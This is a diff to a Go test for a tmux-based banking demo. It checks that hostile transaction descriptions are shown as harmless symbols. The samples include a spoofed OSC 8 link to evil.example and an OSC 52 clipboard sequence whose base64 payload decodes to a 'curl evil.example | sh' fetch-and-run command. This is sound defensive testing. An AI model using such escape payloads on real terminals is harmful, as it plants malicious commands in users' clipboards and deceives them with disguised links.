@@ -101,7 +101,20 @@ func TestBankDemoInTmux(t *testing.T) {
 	s.waitFor("Synced demo-bank: 3 new")
 	sync()
 	s.waitWithin(30*time.Second, "New alert: Possible duplicate charge on Visa Signature")
-	scr = s.waitFor("-737.38 USD")
+	s.waitFor("-737.38 USD")
+	// The checking account, two chats down, holds the bank's hostile
+	// descriptions: they show as inert symbols (a colour code or a link
+	// the terminal obeyed would leave no trace on the screen), and no raw
+	// byte is there.
+	s.run("send-keys", "-t", s.name, "C-j")
+	s.run("send-keys", "-t", s.name, "C-j")
+	scr = s.waitFor("Penny demo · Everyday Checking")
+	scr = s.waitFor("TRADER JOE'S #552")
+	for _, want := range []string{"␛[31mURGENT␛[0m CALL 555-0100", "␛]8;;https://evil.example/␛\\PAYPAL *REFUND", "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇COPY SHOP"} {
+		if !strings.Contains(scr, want) {
+			t.Errorf("the screen lacks %q:\n%s", want, scr)
+		}
+	}
 	if rawTerminalBytes(strings.ReplaceAll(scr, "\n", "")) {
 		t.Errorf("the screen holds raw bytes:\n%q", scr)
 	}
